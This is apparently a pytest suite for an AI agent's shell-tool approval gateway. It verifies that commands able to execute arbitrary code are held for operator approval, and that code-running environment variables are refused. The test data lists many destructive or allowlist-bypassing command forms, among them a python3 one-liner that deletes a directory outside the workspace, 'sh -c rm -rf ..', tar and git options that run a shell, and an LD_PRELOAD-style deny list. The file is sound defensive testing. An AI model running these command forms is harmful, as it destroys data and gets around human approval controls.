"""Approval modes do not trust a program because of its name.

The real gateway in ``commander`` mode (the auto-approving one) with the real shell tool: every
command form that can execute code of its arguments' choosing is held for approval (a
``deny_all`` approver refuses it, and a sentinel directory outside the allowed root survives),
while harmless forms still run unapproved.  Tool-call ``env`` is an allow-list.
"""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable
from typing import Any

import pytest

from services.policy import BoundPolicy, classify
from services.tools.calls import ApprovalDecision, ApprovalRequest, deny_all
from services.tools.gateway import ToolGateway
from tests.tools.conftest import SENTINEL, Sandbox, make_policy, policy_data

pytestmark = pytest.mark.timeout(120)

ALLOWED = [
    "ls", "cat", "grep", "echo", "true", "env", "git", "hg", "python3", "python", "node", "perl", "ruby",
    "php", "sh", "bash", "zsh", "dash", "lua", "awk", "gawk", "sed", "xargs", "find", "tar", "rsync", "ssh",
    "nice", "nohup", "timeout", "stdbuf", "time", "watch", "sudo", "doas", "make", "npm", "npx", "yarn",
    "pnpm", "pip", "cargo", "go", "cmake", "pytest", "tox", "less", "more", "man", "vi", "vim", "nvim",
    "emacs", "nano", "sort", "mystery-tool",
]  # fmt: skip

# The attack from the issue: an allowlisted interpreter deleting a directory outside the
# workspace. No "/" in the argument, so the path-argument check does not see a path.
ATTACK = ["python3", "-c", "import os, shutil; shutil.rmtree(os.path.join(os.pardir, 'outside'))"]

EXEC_FORMS: list[list[str]] = [
    ATTACK,
    # interpreters: inline code, modules, scripts, stdin
    ["python3", "-c", "print(1)"],
    ["python", "-m", "http.server"],
    ["python3", "script.py"],
    ["python3"],
    ["python3", "-"],
    ["node", "-e", "1"],
    ["node", "-p", "1"],
    ["node", "--eval=1"],
    ["perl", "-e", "1"],
    ["perl", "-E", "say 1"],
    ["ruby", "-e", "1"],
    ["php", "-r", "1;"],
    ["sh", "-c", "rm -rf .."],
    ["bash", "-c", "true"],
    ["zsh", "-c", "true"],
    ["dash", "script.sh"],
    ["lua", "-e", "os.exit()"],
    ["awk", 'BEGIN { system("true") }'],
    ["gawk", "{print}", "hello.txt"],
    # sed: e command, e/w flags, r, in-place, unknown scripts
    ["sed", "e true", "hello.txt"],
    ["sed", "s/x/true/e", "hello.txt"],
    ["sed", "-e", "s/x/y/w out.txt", "hello.txt"],
    ["sed", "1r secret", "hello.txt"],
    ["sed", "-i", "s/a/b/", "hello.txt"],
    ["sed", "--expression=1e true", "hello.txt"],
    # programs that run their argument
    ["xargs", "rm"],
    ["env", "sh", "-c", "true"],
    ["env", "-i", "true"],
    ["find", ".", "-exec", "sh", "-c", "true", ";"],
    ["find", ".", "-execdir", "true", ";"],
    ["find", ".", "-ok", "true", ";"],
    ["find", ".", "-delete"],
    ["tar", "--to-command=sh", "-xf", "a.tar"],
    ["tar", "--use-compress-program=sh", "-xf", "a.tar"],
    ["tar", "-I", "sh", "-xf", "a.tar"],
    ["tar", "-xIsh", "-f", "a.tar"],
    ["tar", "xIf", "sh", "a.tar"],
    ["tar", "--checkpoint=1", "--checkpoint-action=exec=sh", "-cf", "a.tar", "sub"],
    ["rsync", "-e", "sh -c true", "a", "b"],
    ["rsync", "--rsh=sh", "a", "b"],
    ["rsync", "-a", "hello.txt", "evil:x"],
    ["ssh", "host", "true"],
    ["nice", "-n", "5", "python3", "-c", "1"],
    ["nohup", "sh", "-c", "true"],
    ["timeout", "5", "python3", "-c", "1"],
    ["timeout", "-s", "KILL", "5", "sh", "-c", "1"],
    ["stdbuf", "-oL", "perl", "-e", "1"],
    ["time", "-p", "bash", "-c", "true"],
    ["nice", "--weird-option", "ls"],
    ["watch", "ls"],
    ["sudo", "ls"],
    ["doas", "ls"],
    # VCS: config overrides, exec-path, config writes, subcommands running hooks or tools
    ["git", "-c", "core.pager=sh -c true", "log"],
    ["git", "-c", "core.sshCommand=sh", "fetch"],
    ["git", "-c", "core.fsmonitor=sh", "status"],
    ["git", "-c", "alias.st=!sh -c true", "st"],
    ["git", "-c", "core.hooksPath=.", "status"],
    ["git", "-c", "diff.external=sh", "diff"],
    ["git", "-ccore.pager=sh", "log"],
    ["git", "--config-env=core.pager=X", "log"],
    ["git", "--exec-path=.", "status"],
    ["git", "config", "core.pager", "sh"],
    ["git", "commit", "-m", "x"],
    ["git", "checkout", "main"],
    ["git", "pull"],
    ["git", "st"],
    ["git", "difftool"],
    ["git", "diff", "--ext-diff"],
    ["git", "-p", "log"],
    ["hg", "--config", "ui.editor=sh", "log"],
    ["hg", "log", "--config=alias.x=!sh"],
    # build tools
    ["make"],
    ["make", "-C", "sub", "all"],
    ["npm", "run", "build"],
    ["npm", "exec", "x"],
    ["npm", "install"],
    ["npm", "test"],
    ["npx", "cowsay"],
    ["yarn", "install"],
    ["pnpm", "run", "x"],
    ["pip", "install", "."],
    ["cargo", "run"],
    ["cargo", "build"],
    ["go", "run", "."],
    ["go", "generate"],
    ["cmake", "."],
    ["pytest"],
    ["tox"],
    # pagers and editors (shell escapes)
    ["less", "hello.txt"],
    ["more", "hello.txt"],
    ["man", "ls"],
    ["vi", "hello.txt"],
    ["vim", "-c", ":!true"],
    ["nvim", "hello.txt"],
    ["emacs", "hello.txt"],
    ["nano", "hello.txt"],
    # options that run a program; a program the table does not know
    ["sort", "--compress-program=sh", "hello.txt"],
    ["mystery-tool", "x"],
]

HARMLESS_FORMS: list[list[str]] = [
    ["ls", "-la"],
    ["grep", "-rn", "hello", "."],
    ["git", "status"],
    ["git", "log", "--oneline"],
    ["cat", "hello.txt"],
    ["echo", "hi"],
    ["sed", "-n", "1p", "hello.txt"],
    ["sed", "s/hello/bye/g", "hello.txt"],
    ["find", ".", "-name", "*.txt"],
    ["env"],
    ["timeout", "5", "ls"],
    ["nice", "-n", "5", "cat", "hello.txt"],
    ["git", "-c", "color.ui=never", "log", "--oneline"],
    ["python3", "--version"],
]


def _commander(sandbox: Sandbox, gateway_factory: Callable[..., ToolGateway], **overrides: Any) -> ToolGateway:
    overrides.setdefault("shell__executables", [{"id": "dev", "names": ALLOWED}])
    return gateway_factory(make_policy(sandbox.root, mode="commander", **overrides), approver=deny_all)


@pytest.fixture
def repo(sandbox: Sandbox) -> Sandbox:
    git = shutil.which("git")
    if git is not None:
        subprocess.run([git, "init", "-q", str(sandbox.root)], check=True)
        for key, value in (("user.email", "t@example.invalid"), ("user.name", "t")):
            subprocess.run([git, "-C", str(sandbox.root), "config", key, value], check=True)
        subprocess.run([git, "-C", str(sandbox.root), "add", "."], check=True)
        subprocess.run([git, "-C", str(sandbox.root), "commit", "-qm", "init"], check=True)
    return sandbox


def test_the_reported_attack_is_held_and_denied(sandbox: Sandbox, gateway_factory: Callable[..., Any]) -> None:
    """commander + python3 -c "shutil.rmtree(...)" on an outside directory: held, denied, intact."""
    before = sandbox.snapshot_outside()
    asked: list[ApprovalRequest] = []

    def approver(request: ApprovalRequest) -> ApprovalDecision:
        asked.append(request)
        return ApprovalDecision.deny("no")

    gateway = gateway_factory(make_policy(sandbox.root, mode="commander"), approver=approver)
    result = gateway.execute_sync("builtin:shell:run", {"argv": ATTACK})
    assert result.error is not None and result.error.type == "PolicyDenied", result.to_dict()
    assert result.error.details["rule"] == "approval.operator_denied"
    assert result.error.details["policy_rule"] == "shell.exec_capable"
    assert len(asked) == 1 and str(asked[0].tier) == "EXEC_PRIVILEGED"
    assert sandbox.snapshot_outside() == before and (sandbox.outside / "secret.txt").read_text().startswith(SENTINEL)
    assert gateway.audit.calls(run_id=gateway.run_id)[-1]["status"] != "success"


@pytest.mark.parametrize("argv", EXEC_FORMS, ids=lambda a: " ".join(a)[:60])
def test_exec_capable_forms_need_approval_in_commander(
    argv: list[str], sandbox: Sandbox, gateway_factory: Callable[..., Any]
) -> None:
    before = sandbox.snapshot_outside()
    gateway = _commander(sandbox, gateway_factory)
    decision = gateway.explain("builtin:shell:run", {"argv": argv})
    assert decision.action == "confirm" and decision.rule == "shell.exec_capable", decision.to_dict()
    assert str(decision.tier) == "EXEC_PRIVILEGED"
    result = gateway.execute_sync("builtin:shell:run", {"argv": argv})
    assert result.error is not None and result.error.details["rule"] == "approval.operator_denied"
    assert sandbox.snapshot_outside() == before


@pytest.mark.parametrize("argv", HARMLESS_FORMS, ids=lambda a: " ".join(a))
def test_harmless_forms_still_run_unapproved(
    argv: list[str], repo: Sandbox, gateway_factory: Callable[..., Any]
) -> None:
    if shutil.which(argv[0]) is None:
        pytest.skip(f"{argv[0]} is not installed")
    gateway = _commander(repo, gateway_factory)
    result = gateway.execute_sync("builtin:shell:run", {"argv": argv})
    assert result.ok, result.to_dict()
    assert result.meta["decision"]["action"] == "allow" and result.meta["decision"]["approved_by"] == "rule"
    assert result.meta["decision"]["tier"] == "EXEC_USERSPACE"


def test_auto_approve_rules_and_strict_mode_cannot_pass_exec_capable_commands(
    sandbox: Sandbox, gateway_factory: Callable[..., Any]
) -> None:
    rules = [{"id": "python-ok", "tools": ["builtin:shell:*"], "executables": ["python3"]}]
    gateway = _commander(sandbox, gateway_factory, auto_approve=rules)
    decision = gateway.explain("builtin:shell:run", {"argv": ["python3", "-c", "1"]})
    assert decision.action == "confirm" and decision.rule == "shell.exec_capable"
    for mode in ("guide", "strict"):
        bound = make_policy(sandbox.root, mode=mode, shell__executables=[{"id": "d", "names": ALLOWED}])
        verdict = BoundPolicy(bound, sandbox.workspace.root).evaluate(
            gateway.registry.get("builtin:shell:start"), {"argv": ["sh", "-c", "true"]}
        )
        assert verdict.action == "confirm" and verdict.rule == "shell.exec_capable"


def test_session_grant_for_exec_capable_command_covers_that_argv_only(
    sandbox: Sandbox, gateway_factory: Callable[..., Any]
) -> None:
    asked: list[list[str]] = []

    def approver(request: ApprovalRequest) -> ApprovalDecision:
        asked.append(request.args["argv"])
        return ApprovalDecision.session() if len(asked) == 1 else ApprovalDecision.deny("no")

    gateway = gateway_factory(make_policy(sandbox.root, mode="commander"), approver=approver)
    first = gateway.execute_sync("builtin:shell:run", {"argv": ["python3", "-c", "print(1)"]})
    again = gateway.execute_sync("builtin:shell:run", {"argv": ["python3", "-c", "print(1)"]})
    assert first.ok and again.ok and again.meta["decision"]["approved_by"] == "operator_session"
    other = gateway.execute_sync("builtin:shell:run", {"argv": ATTACK})
    assert other.error is not None and other.error.details["rule"] == "approval.operator_denied"
    assert len(asked) == 2 and (sandbox.outside / "secret.txt").exists()


def test_wrapped_commands_must_be_allowlisted_too(sandbox: Sandbox, gateway_factory: Callable[..., Any]) -> None:
    gateway = _commander(sandbox, gateway_factory)
    for argv in (["timeout", "5", "rm", "-rf", "sub"], ["nice", "rm", "x"], ["nohup", "./rm"]):
        decision = gateway.explain("builtin:shell:run", {"argv": argv})
        assert decision.action == "deny" and decision.rule == "shell.executables", decision.to_dict()
        assert "wrapped executable" in decision.reason


def test_inert_programs_extend_the_table_but_cannot_override_it(sandbox: Sandbox) -> None:
    assert classify(["mystery-tool", "x"]).exec_capable
    assert not classify(["mystery-tool", "x"], inert=["mystery-tool"]).exec_capable
    assert classify(["python3", "-c", "1"], inert=["python3"]).exec_capable
    assert classify(["python3.12", "-c", "1"]).exec_capable  # version suffixes are stripped
    assert classify(["py", "-c", "1"], resolved="/usr/bin/python3.11").exec_capable  # by the file it runs


# -- env: an allow-list -----------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "PYTHONSTARTUP",
        "PYTHONPATH",
        "NODE_OPTIONS",
        "PERL5OPT",
        "RUBYOPT",
        "BASH_ENV",
        "ENV",
        "GIT_SSH_COMMAND",
        "GIT_PAGER",
        "LESSOPEN",
        "EDITOR",
        "PAGER",
        "PROMPT_COMMAND",
        "PATH",
        "ARIES_PROC_TAG",
    ],
)
def test_code_running_env_variables_are_refused_even_when_listed(
    name: str, sandbox: Sandbox, gateway_factory: Callable[..., Any]
) -> None:
    policy = make_policy(sandbox.root, mode="commander", shell__env_allow=["*"])
    result = gateway_factory(policy, approver=deny_all).execute_sync(
        "builtin:shell:run", {"argv": ["true"], "env": {name: "x"}}
    )
    assert result.error is not None and result.error.type == "PolicyDenied"
    assert result.error.details["rule"] == "shell.env" and result.error.details["variable"] == name
    assert name in result.error.message


def test_env_names_off_the_allow_list_are_refused(sandbox: Sandbox, gateway_factory: Callable[..., Any]) -> None:
    gateway = gateway_factory(make_policy(sandbox.root, mode="commander"), approver=deny_all)
    refused = gateway.execute_sync("builtin:shell:run", {"argv": ["true"], "env": {"GREETING": "hi"}})
    assert refused.error is not None and refused.error.details["rule"] == "shell.env_allow"
    assert "GREETING" in refused.error.message
    allowed = gateway.execute_sync("builtin:shell:run", {"argv": ["env"], "env": {"LC_ALL": "C", "NO_COLOR": "1"}})
    assert allowed.ok and allowed.data is not None and "LC_ALL=C" in allowed.data["stdout"]
    custom = make_policy(sandbox.root, mode="commander", shell__env_allow=["GREETING"])
    data = policy_data(sandbox.root)
    assert "env_allow" not in data["shell"]  # the default applies when the file does not say
    ok = gateway_factory(custom, approver=deny_all).execute_sync(
        "builtin:shell:run", {"argv": ["env"], "env": {"GREETING": "hi"}}
    )
    assert ok.ok and ok.data is not None and "GREETING=hi" in ok.data["stdout"]
